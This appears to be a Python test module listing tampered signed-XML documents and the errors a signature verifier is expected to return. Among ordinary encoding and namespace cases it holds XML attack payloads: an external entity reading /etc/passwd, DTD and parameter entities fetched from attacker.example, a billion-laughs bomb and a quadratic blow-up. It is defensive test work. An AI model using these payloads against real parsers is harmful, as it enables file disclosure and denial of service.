"""Values and bytes: what is written differently, or is not XML of the kind that we read."""

from __future__ import annotations

from collections.abc import Callable

from lxml import etree

from tests.signing.attacks.edits import Attacks, one, put, put_pattern, signature_value


def with_unused_bits(document: bytes) -> bytes:
    """Another spelling of the same base64: the four bits before the padding carry nothing."""
    root = etree.fromstring(document)
    value = one(root, "//ds:SignatureValue")
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    last = value.text[-3]
    value.text = value.text[:-3] + alphabet[alphabet.index(last) + 1] + "=="
    return etree.tostring(root)


ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
"""Of the group of P-256 (SEC 2, 2.4.2)."""


def numbers(make: Callable[[int, int], tuple[int, int]]) -> Callable[[bytes], bytes]:
    """Calculates with r and s; each is written in as many bytes as it needs, at least 32."""

    def change(value: bytes) -> bytes:
        both = make(int.from_bytes(value[:32], "big"), int.from_bytes(value[32:], "big"))
        return b"".join(number.to_bytes(max(32, (number.bit_length() + 7) // 8), "big") for number in both)

    return change


def padded(value: bytes) -> bytes:
    """r and s with a zero byte before each, as a careless converter from ASN.1 writes them."""
    return b"\0" + value[:32] + b"\0" + value[32:]


def with_utf7_text(document: bytes) -> bytes:
    """The number in UTF-7, for a reader that would guess the encoding."""
    return document.replace(b"26XA000123", b"+ADIANg-XA000123")


SEAL = "<ds:SignatureValue>"
LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(10))
BOMB = f"<!DOCTYPE Document [{LAUGHS}]>"
BLOW_UP = f'<!DOCTYPE Document [<!ENTITY e "{"x" * 50_000}">]>'

ENCODING: Attacks = {
    "zero r and s": (signature_value(lambda _: bytes(64)), "SIGNATURE_INVALID"),
    "zero r": (signature_value(lambda value: bytes(32) + value[32:]), "SIGNATURE_INVALID"),
    "zero s": (signature_value(lambda value: value[:32] + bytes(32)), "SIGNATURE_INVALID"),
    "r and s as large as can be": (signature_value(lambda _: b"\xff" * 64), "SIGNATURE_INVALID"),
    "r is the order": (signature_value(numbers(lambda _, s: (ORDER, s))), "SIGNATURE_INVALID"),
    "s is the order": (signature_value(numbers(lambda r, _: (r, ORDER))), "SIGNATURE_INVALID"),
    "r and s are one": (signature_value(numbers(lambda *_: (1, 1))), "SIGNATURE_INVALID"),
    "r and the order": (signature_value(numbers(lambda r, s: (r + ORDER, s))), "SIGNATURE_INVALID"),
    "s and the order": (signature_value(numbers(lambda r, s: (r, s + ORDER))), "SIGNATURE_INVALID"),
    # Every ECDSA signature has a twin, which is why the register hashes bytes (C.3); the content is the same.
    "the order less s": (signature_value(numbers(lambda r, s: (r, ORDER - s))), "VALID"),
    "the order less r": (signature_value(numbers(lambda r, s: (ORDER - r, s))), "SIGNATURE_INVALID"),
    "a zero before r and s": (signature_value(padded), "SIGNATURE_INVALID"),
    "r and s exchanged": (signature_value(lambda value: value[32:] + value[:32]), "SIGNATURE_INVALID"),
    "too short": (signature_value(lambda value: value[:-1]), "SIGNATURE_INVALID"),
    "too long": (signature_value(lambda value: value + b"\0"), "SIGNATURE_INVALID"),
    "empty value": (signature_value(lambda _: b""), "SIGNATURE_INVALID"),
    "unused bits of base64": (with_unused_bits, "SIGNATURE_INVALID"),
    "stray character in base64": (put(SEAL, f"{SEAL}!"), "SIGNATURE_INVALID"),
    "no-break space in base64": (put(SEAL, f"{SEAL}\u00a0"), "SIGNATURE_INVALID"),
    "element in the value": (put(SEAL, f"{SEAL}<ds:x/>"), "SIGNATURE_INVALID"),
    "comment in the value": (put(SEAL, f"{SEAL}<!---->"), "FORBIDDEN_XML"),
    "comment splits a digest": (
        put_pattern("(<ds:DigestValue>[^<]{20})", r"\1<!-- -->"),
        "FORBIDDEN_XML",
    ),
    "instruction splits a digest": (put_pattern("(<ds:DigestValue>[^<]{20})", r"\1<?x?>"), "FORBIDDEN_XML"),
    "element in a digest": (put("<ds:DigestValue>", "<ds:DigestValue><ds:x/>"), "SIGNATURE_INVALID"),
    "two digests": (
        put_pattern("(<ds:DigestValue>[^<]*</ds:DigestValue>)", r"\1\1"),
        "REFERENCE_NOT_ALLOWED",
    ),
    "no digest": (put_pattern("<ds:DigestValue>[^<]*</ds:DigestValue>", ""), "REFERENCE_NOT_ALLOWED"),
    "comment in a digest": (put("<ds:DigestValue>", "<ds:DigestValue><!-- -->"), "FORBIDDEN_XML"),
    "empty digest": (put_pattern("<ds:DigestValue>[^<]*", "<ds:DigestValue>"), "SIGNATURE_INVALID"),
    "comment cuts a text": (put("26XA000123", "26XA<!-- -->000123"), "FORBIDDEN_XML"),
    "instruction": (put("<Header>", "<?evil x?><Header>"), "FORBIDDEN_XML"),
    "stylesheet instruction": (put("<Document", "<?xml-stylesheet href='x'?><Document"), "FORBIDDEN_XML"),
    "CDATA": (put("26XA000123", "<![CDATA[26XA000123]]>"), "FORBIDDEN_XML"),
    "DOCTYPE": (put("<Document", "<!DOCTYPE Document><Document"), "FORBIDDEN_XML"),
    "external DTD": (put("<Document", '<!DOCTYPE d SYSTEM "http://attacker.example/d"><Document'), "FORBIDDEN_XML"),
    "external entity": (
        put("<Document", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document'),
        "FORBIDDEN_XML",
    ),
    "parameter entity": (
        put("<Document", '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]><Document'),
        "FORBIDDEN_XML",
    ),
    "billion laughs": (put("<Document", BOMB + "<Document"), "FORBIDDEN_XML"),
    "quadratic blow-up": (put("<Document", BLOW_UP + "<Document"), "FORBIDDEN_XML"),
    "undeclared entity": (put("26XA000123", "&e9;"), "NOT_A_DOCUMENT"),
    "UTF-16": (lambda document: document.decode().replace("UTF-8", "UTF-16").encode("utf-16"), "NOT_UTF8"),
    "UTF-16 without a mark": (lambda document: document.decode().encode("utf-16-le"), "NOT_UTF8"),
    "UTF-16, big end first": (lambda document: document.decode().encode("utf-16-be"), "NOT_UTF8"),
    "UTF-32": (lambda document: document.decode().encode("utf-32"), "NOT_UTF8"),
    "text in UTF-7": (with_utf7_text, "SIGNATURE_INVALID"),
    "UTF-7": (put("encoding='UTF-8'", "encoding='UTF-7'"), "NOT_UTF8"),
    "Latin-1": (put("encoding='UTF-8'", "encoding='ISO-8859-1'"), "NOT_UTF8"),
    "byte order mark": (lambda document: b"\xef\xbb\xbf" + document, "NOT_UTF8"),
    "overlong UTF-8": (lambda document: document.replace(b"regius", b"r\xc1\xa5gius"), "NOT_UTF8"),
    "NUL at the end": (lambda document: document + b"\0", "NOT_UTF8"),
    "comment after the end": (lambda document: document + b"<!-- -->", "FORBIDDEN_XML"),
    "instruction after the end": (lambda document: document + b"<?x?>", "FORBIDDEN_XML"),
    "CDATA after the end": (lambda document: document + b"<![CDATA[]]>", "FORBIDDEN_XML"),
    "reference after the end": (lambda document: document + b"&#32;", "NOT_A_DOCUMENT"),
    "white space after the end": (lambda document: document + b" \r\n\t", "VALID"),
    "text after the end": (lambda document: document + b"x", "NOT_A_DOCUMENT"),
    "a second document": (lambda document: document + document.partition(b"\n")[2], "NOT_A_DOCUMENT"),
    "cut short": (lambda document: document[:-20], "NOT_A_DOCUMENT"),
    "changed number": (put("26XA000123", "26XA000124"), "SIGNATURE_INVALID"),
    "changed attribute": (put('p:kind="E"', 'p:kind="I"'), "SIGNATURE_INVALID"),
    "white space in the content": (put("  <Body>", " <Body>"), "SIGNATURE_INVALID"),
    "text beside the signature": (put("<ds:Signature ", "x<ds:Signature "), "SIGNATURE_INVALID"),
    "xml:lang on the root": (put("<Document ", '<Document xml:lang="en" '), "SIGNATURE_INVALID"),
    "xml:base on the root": (put("<Document ", '<Document xml:base="http://attacker.example/" '), "SIGNATURE_INVALID"),
    "xml:space on the root": (put("<Document ", '<Document xml:space="preserve" '), "SIGNATURE_INVALID"),
    "xml:lang on the signature": (put("<ds:Signature ", '<ds:Signature xml:lang="en" '), "SIGNATURE_INVALID"),
    # Exclusive C14N gives SignedProperties and KeyInfo nothing of what stands around them.
    "xml:lang around the properties": (
        put("<xades:QualifyingProperties ", '<xades:QualifyingProperties xml:lang="en" '),
        "SIGNATURE_INVALID",
    ),
    "xml:base around the properties": (put("<ds:Object>", '<ds:Object xml:base="urn:x:">'), "SIGNATURE_INVALID"),
    "xml:lang on SignedInfo": (put("<ds:SignedInfo", '<ds:SignedInfo xml:lang="en"'), "SIGNATURE_INVALID"),
    "xml:base on the signature": (
        put("<ds:Signature ", '<ds:Signature xml:base="http://attacker.example/" '),
        "SIGNATURE_INVALID",
    ),
    "text in the signature": (put("<ds:KeyInfo", "unsigned<ds:KeyInfo"), "SIGNATURE_INVALID"),
    "prefix means something else": (put("<p:Line", '<p:Line xmlns:p="urn:other"'), "SIGNATURE_INVALID"),
    "ds means something else": (put("<ds:SignedInfo", '<ds:SignedInfo xmlns:ds="urn:other"'), "SIGNATURE_INVALID"),
    "relative namespace name": (put("<p:Permit ", '<p:Permit xmlns:unused="relative" '), "SIGNATURE_INVALID"),
    "relative namespace name on the signature": (
        put("<ds:Signature ", '<ds:Signature xmlns:unused="relative" '),
        "SIGNATURE_INVALID",
    ),
    "relative namespace name in the unsigned object": (
        put("<ds:Object>", '<ds:Object xmlns:unused="relative">'),
        "SIGNATURE_INVALID",
    ),
    "the same namespace again": (put("<Body>", '<Body xmlns="urn:epix-node:document:1">'), "VALID"),
    "unused namespace": (put("<Document ", '<Document xmlns:unused="urn:unused" '), "VALID"),
    "Body by a prefix": (
        lambda document: put("</Body>", "</o:Body>")(
            put("<Body>", '<o:Body xmlns:o="urn:epix-node:document:1">')(document)
        ),
        "SIGNATURE_INVALID",
    ),
    "xml means something else": (put("<Body>", '<Body xmlns:xml="urn:other">'), "NOT_A_DOCUMENT"),
    "default namespace undone": (put("<p:Permit", '<p:Permit xmlns=""'), "VALID"),
    "body of another namespace": (put("<Body>", '<Body xmlns="urn:other">'), "NOT_A_DOCUMENT"),
    "another Party": (put("<Party>XA", "<Party>XB"), "KEY_WRONG_PARTY"),
    "another type": (put("<Type>permit", "<Type>withdrawal"), "SIGNATURE_INVALID"),
    "another environment": (put("<Environment>sandbox", "<Environment>prod"), "SIGNATURE_INVALID"),
    "another signing time": (put("SigningTime>2026", "SigningTime>2025"), "SIGNATURE_INVALID"),
}
